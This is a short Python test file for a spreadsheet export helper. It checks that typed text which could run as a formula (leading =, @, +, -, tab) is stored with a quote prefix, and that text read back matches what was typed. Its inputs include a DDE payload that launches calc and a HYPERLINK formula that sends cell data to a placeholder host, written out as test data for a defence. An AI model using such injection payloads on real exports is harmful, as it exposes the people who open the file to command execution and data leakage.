"""The one rule every .xlsx export writes its cells by: typed text never becomes a formula."""

import datetime

import pytest

from core.spreadsheets import sheet_value, typed_text


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ('=HYPERLINK("http://x/?"&B2,"点我")', '\'=HYPERLINK("http://x/?"&B2,"点我")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("+SUM(2)", "'+SUM(2)"),
        ("-5", "'-5"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1", "'\r=1"),
        ("王秀英", "王秀英"),
        ("138****5678", "138****5678"),
        ("a=b", "a=b"),
        ("铃\x07声", "铃声"),  # Excel cannot hold control characters: dropped, not a 500
        (12, 12),
        (-3.5, -3.5),
        (datetime.date(2024, 3, 1), datetime.date(2024, 3, 1)),
        (None, None),
    ],
)
def test_only_text_that_would_run_is_quoted(typed, stored):
    assert sheet_value(typed) == stored


@pytest.mark.parametrize("typed", ["=1+1", "@SUM(1)", "-", "王秀英", "'quoted", 7])
def test_text_read_back_in_is_what_was_typed(typed):
    assert typed_text(sheet_value(typed)) == typed
